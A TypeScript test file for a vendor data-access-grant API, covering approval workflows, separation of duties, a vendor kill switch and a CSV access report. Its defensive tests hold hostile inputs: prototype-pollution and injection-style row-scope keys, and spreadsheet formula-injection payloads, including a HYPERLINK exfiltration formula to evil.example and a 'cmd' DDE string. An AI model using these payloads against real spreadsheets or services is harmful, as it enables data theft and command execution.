import { parse } from 'csv-parse/sync';
import type { ClientActor } from '../../services/http/route';
import { createTestApp, expectProblem, type TestApp } from '../helpers/app';
import { Factories } from '../helpers/factories';

let t: TestApp;
let f: Factories;
let vendorId: string;
let asset: { id: string; key: string };
const auth = async (sub: string) => ({ Authorization: `Bearer ${await t.staffToken(sub)}` });
const pep: ClientActor = { kind: 'client', clientId: 'pep-test', roles: ['pep'], scopes: [], vendorId: null, tokenId: 'jti' };
const DAY = 86_400_000;
const inDays = (n: number) => new Date(Date.now() + n * DAY).toISOString();

async function requestGrant(body: Record<string, unknown>, as = 'vic') {
  return t.http
    .post('/v1/access-grants')
    .set(await auth(as))
    .send({
      vendor: vendorId,
      asset: asset.key,
      fields: ['phone'],
      actions: ['read'],
      purpose: 'collections',
      validUntil: inDays(30),
      justification: 'Overdue card collections calls',
      ...body,
    });
}

const decide = (input: Record<string, unknown>) =>
  t.container.decisions.decide(pep, 'req-test', {
    vendor: vendorId,
    asset: asset.key,
    fields: ['phone'],
    action: 'read',
    purpose: 'collections',
    ...input,
  } as never);

beforeAll(async () => {
  t = await createTestApp();
  f = new Factories(t);
  await f.department('RETAIL');
  await f.department('CORPORATE');
  await f.purpose('collections');
  await f.purpose('marketing', 'consent');
  await t.grantRole('vic', 'vendor_manager', '*');
  await t.grantRole('olivia', 'data_owner', 'RETAIL');
  await t.grantRole('oscar', 'data_owner', 'CORPORATE');
  await t.grantRole('pat', 'privacy_officer', '*');
  await t.grantRole('double', 'data_owner', 'RETAIL');
  await t.grantRole('double', 'privacy_officer', '*');
  vendorId = await f.vendor({ purposes: ['collections', 'marketing'], manager: 'vic' });
  asset = await f.asset('RETAIL', [
    ['name', 'personal'],
    ['phone', 'personal'],
    ['id_number', 'sensitive'],
  ]);
});
afterAll(() => t.close());

describe('access grants', () => {
  it('goes requested → approved by the owning department, becomes policy, then is revoked, every step audited', async () => {
    const req = await requestGrant({ fields: ['name', 'phone'] });
    expect(req.status).toBe(201);
    expect(req.body).toMatchObject({ status: 'requested', sensitive: false, fields: ['name', 'phone'], requestedBy: 'vic' });
    expect((await decide({ fields: ['name'] })).decision).toBe('deny');

    const approved = await t.http
      .post(`/v1/access-grants/${req.body.id}/approve`)
      .set(await auth('olivia'))
      .send({});
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({ status: 'active', approvals: { owner: { by: 'olivia' }, privacyOfficer: null } });

    const allow = await decide({ fields: ['name', 'phone', 'id_number'] });
    expect(allow).toMatchObject({
      decision: 'partial',
      allowedFields: ['name', 'phone'],
      deniedFields: [{ field: 'id_number', reason: 'field_not_granted' }],
      grants: [req.body.id],
    });

    const revoked = await t.http
      .post(`/v1/access-grants/${req.body.id}/revoke`)
      .set(await auth('pat'))
      .send({ reason: 'Contract review' });
    expect(revoked.body.status).toBe('revoked');
    expect((await decide({ fields: ['name'] })).deniedFields).toEqual([{ field: 'name', reason: 'no_grant' }]);

    const audit = await t.http.get(`/v1/audit?objectType=access_grant&objectId=${req.body.id}`).set(await auth('root-admin'));
    expect(audit.body.items.map((e: { action: string }) => e.action)).toEqual([
      'access_grant.revoked',
      'access_grant.approved',
      'access_grant.requested',
    ]);
    const decisions = await t.http.get(`/v1/audit?action=access.decided&objectId=${vendorId}`).set(await auth('root-admin'));
    expect(decisions.body.items.length).toBeGreaterThanOrEqual(3);
    expect(
      decisions.body.items.find((e: { details: { decision: string } }) => e.details.decision === 'partial').details.matchedRules[0].grant,
    ).toBe(req.body.id);
  });

  it('never lets the requester approve, nor a data owner of another department, nor a vendor manager', async () => {
    await t.grantRole('vic', 'data_owner', 'RETAIL');
    const req = await requestGrant({});
    expectProblem(
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('vic'))
        .send({}),
      403,
    );
    expectProblem(
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('oscar'))
        .send({}),
      403,
    );
    await t.grantRole('vm2', 'vendor_manager', '*');
    expectProblem(
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('vm2'))
        .send({}),
      403,
    );
    const after = await t.http.get(`/v1/access-grants/${req.body.id}`).set(await auth('pat'));
    expect(after.body).toMatchObject({ status: 'requested', approvals: { owner: null } });
  });

  it('needs a privacy officer too for a sensitive field, and not the same person twice', async () => {
    const req = await requestGrant({ fields: ['id_number'] });
    expect(req.body.sensitive).toBe(true);
    const first = await t.http
      .post(`/v1/access-grants/${req.body.id}/approve`)
      .set(await auth('double'))
      .send({});
    expect(first.body).toMatchObject({
      status: 'requested',
      approvals: { owner: { by: 'double' }, privacyOfficer: null, privacyOfficerRequired: true },
    });
    expect((await decide({ fields: ['id_number'] })).decision).toBe('deny');
    expectProblem(
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('double'))
        .send({}),
      403,
    );
    const second = await t.http
      .post(`/v1/access-grants/${req.body.id}/approve`)
      .set(await auth('pat'))
      .send({});
    expect(second.body).toMatchObject({ status: 'active', approvals: { privacyOfficer: { by: 'pat' } } });
    expect((await decide({ fields: ['id_number'] })).decision).toBe('allow');
  });

  it('rejects with a reason; a rejected grant cannot be approved', async () => {
    const req = await requestGrant({});
    const rejected = await t.http
      .post(`/v1/access-grants/${req.body.id}/reject`)
      .set(await auth('olivia'))
      .send({ reason: 'Not needed for collections' });
    expect(rejected.body).toMatchObject({ status: 'rejected', decisionReason: 'Not needed for collections' });
    expectProblem(
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('olivia'))
        .send({}),
      409,
      'grant_not_pending',
    );
  });

  it('denies outside the window: a future grant is grant_not_yet_valid', async () => {
    const req = await requestGrant({ fields: ['name'], purpose: 'marketing', validFrom: inDays(2), validUntil: inDays(10) });
    await t.http
      .post(`/v1/access-grants/${req.body.id}/approve`)
      .set(await auth('olivia'))
      .send({})
      .expect(200);
    const d = await decide({ fields: ['name'], purpose: 'marketing' });
    expect(d.deniedFields).toEqual([{ field: 'name', reason: 'grant_not_yet_valid' }]);
    expect((await t.http.get(`/v1/access-grants/${req.body.id}`).set(await auth('pat'))).body.status).toBe('approved');
  });

  it.each([
    ['no fields', { fields: [] }],
    ['unknown field', { fields: ['shoe_size'] }],
    ['purpose not in the contract', { purpose: 'payroll' }],
    ['end before start', { validFrom: inDays(5), validUntil: inDays(4) }],
    ['longer than 365 days', { validUntil: inDays(390) }],
    ['past the contract end', { validUntil: inDays(399) }],
    ['no end', { validUntil: undefined }],
    ['unknown action', { actions: ['delete'] }],
    ['unknown property', { colour: 'red' }],
    ['bad row scope', { rowScope: { Branch: ['SZ01'] } }],
    ['zero cap', { dailyRecordCap: 0 }],
    ['unknown vendor', { vendor: '0b4f6a3e-2b8e-4c55-9a0e-6f2d7b1c9e01' }],
  ])('refuses a request with %s (400) and writes nothing', async (_label, body) => {
    const before = (await t.container.audit.verify()).checked;
    const res = await requestGrant(body);
    expectProblem(res, 400, 'validation_failed');
    expect((await t.container.audit.verify()).checked).toBe(before);
  });

  it.each([
    'constructor',
    'prototype',
    '__proto__',
    '__defineGetter__',
    'toString',
    'select',
    'user',
    'order',
    'branch name',
    'branch;drop',
    '1branch',
    'b'.repeat(64),
    '',
  ])('refuses a row scope keyed %j, which is no column name (400), and writes nothing', async (key) => {
    const before = (await t.container.audit.verify()).checked;
    const base = {
      vendor: vendorId,
      asset: asset.key,
      fields: ['phone'],
      actions: ['read'],
      purpose: 'collections',
      validUntil: inDays(30),
      justification: 'Overdue card collections calls',
    };
    // Raw JSON: an object literal would turn "__proto__" into the prototype instead of a key.
    const raw = JSON.stringify(base).replace(/}$/, `,"rowScope":{${JSON.stringify(key)}:["SZ01"],"branch":["SZ02"]}}`);
    const res = await t.http
      .post('/v1/access-grants')
      .set(await auth('vic'))
      .set('Content-Type', 'application/json')
      .send(raw);
    expectProblem(res, 400, 'validation_failed');
    expect((await t.container.audit.verify()).checked).toBe(before);
    expect(({} as Record<string, unknown>).SZ01).toBeUndefined();
  });

  it('keeps a row scope of column names, built without a prototype', async () => {
    const res = await requestGrant({ rowScope: { branch: ['SZ01'], region_code: ['south'] } });
    expect(res.status).toBe(201);
    expect(res.body.rowScope).toEqual({ branch: ['SZ01'], region_code: ['south'] });
    const stored = await t.container.accessGrants.get(res.body.id, { all: true });
    expect(stored.rowScope).toEqual({ branch: ['SZ01'], region_code: ['south'] });
  });

  it('keeps data owners to their own departments in lists and reads', async () => {
    const list = await t.http.get('/v1/access-grants').set(await auth('oscar'));
    expect(list.status).toBe(200);
    expect(list.body.items).toEqual([]);
    const mine = await t.http.get('/v1/access-grants?status=requested').set(await auth('olivia'));
    expect(mine.body.items.length).toBeGreaterThan(0);
    expectProblem(await t.http.get(`/v1/access-grants/${mine.body.items[0].id}`).set(await auth('oscar')), 404);
  });
});

describe('kill switch and the vendor-access report', () => {
  it('suspension denies at once, reinstatement restores, termination revokes every grant for good', async () => {
    const vendor = await f.vendor({ purposes: ['collections'], manager: 'vic' });
    const req = await t.http
      .post('/v1/access-grants')
      .set(await auth('vic'))
      .send({
        vendor,
        asset: asset.key,
        fields: ['name'],
        actions: ['read'],
        purpose: 'collections',
        validUntil: inDays(20),
        justification: 'Dunning letters by post',
      });
    await t.http
      .post(`/v1/access-grants/${req.body.id}/approve`)
      .set(await auth('olivia'))
      .send({})
      .expect(200);
    const ask = () => decide({ vendor, fields: ['name'] });
    expect((await ask()).decision).toBe('allow');

    await t.http
      .post(`/v1/vendors/${vendor}/suspend`)
      .set(await auth('pat'))
      .send({ reason: 'Suspected leak under investigation' })
      .expect(200);
    expect((await ask()).deniedFields).toEqual([{ field: 'name', reason: 'vendor_suspended' }]);
    await t.http
      .post(`/v1/vendors/${vendor}/reinstate`)
      .set(await auth('pat'))
      .send({ reason: 'Investigation closed, no leak' })
      .expect(200);
    expect((await ask()).decision).toBe('allow');

    await t.http
      .post(`/v1/vendors/${vendor}/terminate`)
      .set(await auth('pat'))
      .send({ reason: 'Contract terminated for breach' })
      .expect(200);
    expect((await ask()).decision).toBe('deny');
    const grant = await t.http.get(`/v1/access-grants/${req.body.id}`).set(await auth('pat'));
    expect(grant.body).toMatchObject({ status: 'revoked', decisionReason: 'vendor terminated' });
  });

  it('reports what each vendor may touch, as JSON and as CSV, for privacy officers but not data owners', async () => {
    const json = await t.http
      .get('/v1/reports/vendor-access')
      .set(await auth('pat'))
      .expect(200);
    const mine = json.body.vendors.find((v: { vendor: { id: string } }) => v.vendor.id === vendorId);
    expect(mine.grants.length).toBeGreaterThan(0);
    expect(mine.grants[0]).toMatchObject({ asset: asset.key, owningDepartment: 'RETAIL', flaggedForRevocation: false });
    expect(mine.grants.some((g: { lastUsedAt: string | null }) => g.lastUsedAt !== null)).toBe(true);

    const csv = await t.http
      .get('/v1/reports/vendor-access')
      .set(await auth('pat'))
      .set('Accept', 'text/csv')
      .expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text.split('\r\n')[0]).toBe(
      'vendor_id,vendor_name,vendor_status,grant_id,asset,owning_department,fields,actions,purpose,valid_from,valid_until,approved_by_owner,approved_by_privacy_officer,approved_at,last_used_at,flagged_for_revocation',
    );
    expectProblem(await t.http.get('/v1/reports/vendor-access').set(await auth('olivia')), 403);
    expectProblem(
      await t.http
        .get('/v1/reports/vendor-access')
        .set(await auth('pat'))
        .set('Accept', 'application/xml'),
      406,
    );
  });

  it('never hands a spreadsheet a live formula from a vendor or purpose name in the CSV', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Report")', "+cmd|' /C calc'!A0", '@SUM(1+1)', ' -1+1', '＝1+1'];
    const stored = new Map<string, string>();
    for (const name of names) {
      const created = await t.http
        .post('/v1/vendors')
        .set(await auth('vic'))
        .send({
          name,
          contacts: [{ name: '=Account manager', email: 'am@vendor.example' }],
          contract: { reference: f.unique('C-'), startsAt: inDays(-1), endsAt: inDays(300), purposes: ['collections'] },
          securityAssessment: { assessedAt: new Date().toISOString().slice(0, 10), result: 'pass' },
        });
      expect(created.status).toBe(201);
      stored.set(created.body.id, created.body.name);
      const req = await t.http
        .post('/v1/access-grants')
        .set(await auth('vic'))
        .send({
          vendor: created.body.id,
          asset: asset.key,
          fields: ['phone'],
          actions: ['read'],
          purpose: 'collections',
          validUntil: inDays(30),
          justification: '=1+1 justification',
        });
      expect(req.status).toBe(201);
      await t.http
        .post(`/v1/access-grants/${req.body.id}/approve`)
        .set(await auth('olivia'))
        .send({})
        .expect(200);
    }
    const csv = await t.http
      .get('/v1/reports/vendor-access')
      .set(await auth('pat'))
      .set('Accept', 'text/csv')
      .expect(200);
    const rows = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
    for (const [id, name] of stored) expect(rows.filter((r) => r.vendor_id === id).map((r) => r.vendor_name)).toEqual([`'${name}`]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/);
  });
});
